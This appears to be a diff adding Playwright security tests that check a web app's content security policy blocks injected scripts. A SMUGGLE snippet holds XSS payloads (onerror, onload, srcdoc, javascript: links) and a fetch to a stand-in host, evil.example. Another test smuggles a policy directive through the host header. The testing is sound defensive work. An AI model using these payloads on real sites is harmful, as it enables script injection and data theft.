@@ -1,0 +1,148 @@
+"""The pages under their content security policy: they work whole, and what is smuggled in runs nothing."""
+
+import json
+import re
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from ui.conftest import Server
+from ui.live_page import LivePage
+from ui.owner_site import Site
+from ui.rate_page import RatePage
+
+from studio.ui.page_policy import PagePolicy, marked
+
+SMUGGLE = """async () => {
+  window.ran = [];
+  const put = (html) => { const at = document.createElement('div'); at.innerHTML = html; document.body.append(at); };
+  put('<img src="/nothing.png" onerror="window.ran.push(1)">');
+  put('<svg onload="window.ran.push(2)"></svg>');
+  put('<iframe srcdoc="<script>parent.ran.push(3)</script>"></iframe>');
+  const script = document.createElement('script');
+  script.textContent = 'window.ran.push(4)';
+  document.body.append(script);
+  put('<a id="smuggled" href="javascript:window.ran.push(5)">x</a>');
+  document.getElementById('smuggled').click();
+  const sent = await fetch('https://evil.example/x', { mode: 'no-cors' }).then(() => 'sent', () => 'blocked');
+  await new Promise((done) => setTimeout(done, 500));
+  return [window.ran, sent];
+}"""
+LISTEN = (
+    "document.addEventListener('securitypolicyviolation', (e) => (window.violations ??= []).push(e.violatedDirective))"
+)
+
+
+@pytest.fixture
+def page(chromium: Any) -> Iterator[Any]:
+    context = chromium.new_context(viewport={"width": 1280, "height": 900})
+    found = context.new_page()
+    found.add_init_script(LISTEN)
+    found.said = []
+    found.on("console", lambda m: found.said.append(m.text) if m.type in ("error", "warning") else None)
+    found.on("pageerror", lambda error: found.said.append(str(error)))
+    yield found
+    context.close()
+
+
+def clean(page: Any) -> None:
+    """Nothing was blocked, and nothing was said of it."""
+    assert page.evaluate("window.violations ?? []") == []
+    assert [line for line in page.said if "Content Security" in line or "Refused" in line] == []
+
+
+def test_the_live_page(page: Any, server: Server) -> None:
+    live = LivePage(page, server.url)
+    live.open()
+    live.type("one two three ")
+    live.finish()
+    live.wait_said()
+    assert len(live.rendered())
+    page.locator(".theme").click()
+    clean(page)
+    assert live.foreign == []
+    assert page.evaluate(SMUGGLE) == [[], "blocked"]
+
+
+@pytest.mark.parametrize("path", ["campaigns", "results"])
+def test_the_owners_pages(page: Any, site: Site, path: str) -> None:
+    page.goto(site.url + path)
+    page.wait_for_selector(".owner-notice")
+    page.fill("#owner-token input", site.token)
+    page.click("#owner-show")
+    page.wait_for_selector(".campaign" if path == "campaigns" else ".owner-plot svg.main-svg")
+    page.wait_for_timeout(500)
+    clean(page)
+    assert page.evaluate(SMUGGLE) == [[], "blocked"]
+
+
+def test_the_report_that_the_results_page_saves(page: Any, site: Site, tmp_path: Path) -> None:
+    """It is opened from a disk, where no server says anything: it brings a policy of its own."""
+    page.goto(site.url + "results?campaign=kestrel")
+    page.wait_for_selector(".owner-notice")
+    page.fill("#owner-token input", site.token)
+    page.click("#owner-show")
+    button = page.get_by_role("button", name="HTML report")
+    button.wait_for()
+    with page.expect_download() as download:
+        button.click()
+    clean(page)
+    file = tmp_path / "report.html"
+    download.value.save_as(file)
+    assert '<meta http-equiv="Content-Security-Policy"' in file.read_text(encoding="utf-8")
+    page.goto(file.as_uri())
+    page.wait_for_selector("main h1, main h2")
+    page.wait_for_timeout(300)
+    clean(page)
+    assert page.evaluate(SMUGGLE) == [[], "blocked"]
+
+
+def test_the_raters_page(page: Any, rate: Callable[..., RatePage]) -> None:
+    rating = rate("mos", who="policy")
+    rating.page.add_init_script(LISTEN)
+    rating.page.reload()
+    rating.begin()
+    rating.page.get_by_role("button", name=re.compile("Play|Listen|A")).first.click()
+    rating.page.wait_for_timeout(1000)
+    assert rating.page.evaluate("window.violations ?? []") == []
+    assert rating.page.evaluate(SMUGGLE) == [[], "blocked"]
+
+
+def test_no_other_site_hears_the_address(page: Any, site: Site) -> None:
+    """A rater's link, and the link with the key, are addresses."""
+    heard: list[str | None] = []
+
+    def other(route: Any) -> None:
+        heard.append(route.request.headers.get("referer"))
+        route.fulfill(body="x")
+
+    page.route("https://other.example/**", other)
+    facts = json.loads((site.folder / "facts.json").read_text(encoding="utf-8"))
+    page.goto(site.url + facts["links"]["rater"].lstrip("/"))
+    page.evaluate("location.href = 'https://other.example/'")
+    page.wait_for_url("https://other.example/")
+    assert heard == [None]
+
+
+def test_each_answer_has_a_number_of_its_own_and_every_script_has_it(site: Site) -> None:
+    numbers = set()
+    for _ in range(3):
+        html = site.get("")
+        marked = re.findall(r'<script nonce="([\w-]{22})"', html)
+        outside = re.sub(r"<script.*?</script>", "", html, flags=re.DOTALL)
+        assert len(set(marked)) == 1 and "<script" not in outside
+        assert len(marked) == len(re.findall(r"<script[^>]*>.*?</script>", html, re.DOTALL))
+        numbers |= set(marked)
+    assert len(numbers) == 3
+
+
+def test_only_tags_are_marked() -> None:
+    html = b'<script>const a = "<script src=x>"</script><SCRIPT src="a.js"></SCRIPT><scripty></scripty>'
+    found = marked(html, "NUMBER").decode()
+    assert found.count('nonce="NUMBER"') == 2 and 'const a = "<script src=x>"' in found and "<scripty>" in found
+
+
+def test_a_strange_host_stays_out_of_the_policy() -> None:
+    scope = {"type": "http", "method": "GET", "headers": [(b"host", b"a.example;script-src *")]}
+    assert "a.example" not in PagePolicy(None, []).policy(scope, "NUMBER")  # type: ignore[arg-type]
